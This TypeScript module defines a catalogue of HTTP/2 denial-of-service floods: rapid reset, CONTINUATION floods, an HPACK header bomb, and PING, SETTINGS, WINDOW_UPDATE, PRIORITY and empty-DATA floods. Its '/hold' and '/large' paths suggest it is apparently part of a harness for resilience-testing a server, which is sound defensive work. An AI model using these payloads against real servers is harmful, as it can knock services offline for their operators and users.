/** Floods of HTTP/2: what is sent first, and what is sent again and again. */
import { headers, pseudo } from '../framing/h2-row.ts';
import {
  Flag,
  FrameType,
  frame,
  headerBlock,
  integer,
  resetStream,
  settings,
  windowUpdate,
  word,
} from '../framing/h2-wire.ts';

export interface Flood {
  /** After preface and settings. */
  readonly first: (host: string) => Buffer;
  /** One turn, about 16 KiB; `turn` counts from 0. */
  readonly again: (host: string, turn: number) => Buffer;
  /** The flood does not read what the server answers. */
  readonly deaf?: boolean;
}

const PER_TURN = 200;
const NOTHING = Buffer.alloc(0);

const many = (one: (index: number) => Buffer, count = PER_TURN): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));
const same = (piece: Buffer, count = PER_TURN): (() => Buffer) => {
  const bytes = many(() => piece, count);
  return () => bytes;
};
const asIs = (text: string): string => text;
const head = (host: string, id: number, path: string, ends: boolean): Buffer =>
  headers(id, pseudo({ ':authority': host, ':path': path, ':method': ends ? 'GET' : 'POST' }), asIs, ends);
/** Streams of turn `turn`, `per` in each. */
const idOf = (turn: number, index: number, per: number): number => 1 + 2 * (turn * per + index);

/** `/hold` answers late: the stream stays alive meanwhile. */
const live = (host: string): Buffer => head(host, 1, '/hold', true);
const opened = (host: string): Buffer => head(host, 1, '/hold', false);

const PING = frame(FrameType.ping, 0, 0, Buffer.alloc(8));
const PRIORITY = Buffer.concat([word(0), Buffer.from([7])]);
/** Puts `x` with 4,000 bytes into the dynamic table. */
const INSERT = Buffer.concat([Buffer.from([0x40, 1, 0x78]), integer(4_000, 7, 0), Buffer.alloc(4_000, 0x79)]);

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': {
    first: () => NOTHING,
    again: (host, turn) =>
      many((index) => {
        const id = idOf(turn, index, 50);
        return Buffer.concat([head(host, id, '/', true), resetStream(id, 8)]);
      }, 50),
  },
  'resets that the server is made to send': {
    first: () => NOTHING,
    again: (host, turn) =>
      many((index) => {
        const id = idOf(turn, index, 50);
        return Buffer.concat([head(host, id, '/', false), windowUpdate(id, 0)]);
      }, 50),
  },
  'refused heads': {
    first: () => NOTHING,
    again: (host, turn) => many((index) => head(host, idOf(turn, index, 50), '/ x', true), 50),
  },
  CONTINUATION: {
    first: (host) =>
      frame(FrameType.headers, 0, 1, headerBlock(pseudo({ ':authority': host }).map(([name, value]) => [name, value]))),
    again: same(frame(FrameType.continuation, 0, 1, headerBlock([['x', 'y'.repeat(60)]]))),
  },
  'empty CONTINUATION': {
    first: (host) => frame(FrameType.headers, 0, 1, headerBlock(pseudo({ ':authority': host }))),
    again: same(frame(FrameType.continuation, 0, 1)),
  },
  SETTINGS: { first: () => NOTHING, again: same(settings([3, 100])) },
  'SETTINGS beside a live stream': { first: live, again: same(settings([3, 100])) },
  PING: { first: () => NOTHING, again: same(PING) },
  'PING beside a live stream': { first: live, again: same(PING) },
  'PING, answers unread': { first: live, again: same(PING), deaf: true },
  'empty DATA': { first: opened, again: same(frame(FrameType.data, 0, 1)) },
  'padded DATA without a byte': {
    first: opened,
    again: same(frame(FrameType.data, Flag.padded, 1, Buffer.from([1, 0]))),
  },
  'header bomb': {
    first: (host) => {
      const fields = headerBlock(pseudo({ ':authority': host, ':path': '/hold' }));
      return frame(FrameType.headers, Flag.endHeaders | Flag.endStream, 1, Buffer.concat([fields, INSERT]));
    },
    // Each byte stands for the 4,000 of the table.
    again: (host, turn) => {
      const fields = headerBlock(pseudo({ ':authority': host }));
      const block = Buffer.concat([fields, Buffer.alloc(12_000, 0xbe)]);
      return frame(FrameType.headers, Flag.endHeaders | Flag.endStream, 3 + 2 * turn, block);
    },
  },
  WINDOW_UPDATE: { first: live, again: same(windowUpdate(1, 1)) },
  PRIORITY: {
    first: live,
    again: (_host, turn) =>
      many((index) => frame(FrameType.priority, 0, idOf(turn % 1_000, index, PER_TURN), PRIORITY)),
  },
  'unknown frames': { first: live, again: same(frame(0x42, 0, 1, Buffer.alloc(16))) },
  'answers that nobody reads': {
    first: () => NOTHING,
    again: (host, turn) => many((index) => head(host, idOf(turn, index, 20), '/large', true), turn < 5 ? 20 : 0),
    deaf: true,
  },
};
